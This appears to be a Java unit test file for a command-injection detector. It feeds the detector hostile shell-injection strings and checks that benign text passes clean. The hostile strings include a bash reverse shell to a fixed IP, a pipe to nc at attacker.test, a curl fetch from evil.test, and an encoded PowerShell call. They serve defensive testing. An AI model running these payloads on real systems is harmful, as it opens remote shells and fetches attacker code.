package dev.gatehouse.inspection.detect;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CommandInjectionInspectionTest {

    @ParameterizedTest
    @ValueSource(strings = {
        "10.0.0.1; uname -a",
        "file.txt | nc attacker.test 9001",
        "x && ping -c 9 10.1.1.1",
        "name`whoami`",
        "$(curl -s http://evil.test/p.sh)",
        "a%0Als -la /home",
        "q;cat${IFS}/etc/hostname",
        "x || powershell -enc AAAA",
        "bash -i >& /dev/tcp/10.0.0.9/4242 0>&1",
        "shell_exec('id');",
        "{{ 6*7 }}",
        "/usr/bin/id",
        "& type c:\\boot.ini",
    })
    void attacksAreDetected(String input) {
        Finding finding = Detector.inspect(input);
        org.assertj.core.api.Assertions.assertThat(finding).as(input).isNotNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "10.0.0.1; uname -a",
        "file.txt | nc attacker.test 9001",
        "x && ping -c 9 10.1.1.1",
        "name`whoami`",
        "$(curl -s http://evil.test/p.sh)",
        "x || powershell -enc AAAA",
    })
    void attacksAreNamedCommandInjection(String input) {
        CategoryCases.detectedAs(input, ThreatCategory.COMMAND_INJECTION);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "id",
        "type",
        "pwd",
        "curl/8.5.0",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "salt & pepper; cats & dogs",
        "sleep 8 hours a night",
        "| id | name | email |",
        "GCC 3.2 and 3.3; gcc 4.1 works too",
        "https://example.org/search?q=cats&id=5&type=all",
        "text/html,application/xhtml+xml,*/*;q=0.8",
        "python3 -m venv .venv",
        "which version should I pick",
    })
    void ordinaryInputIsClean(String input) {
        CategoryCases.clean(input);
    }
}
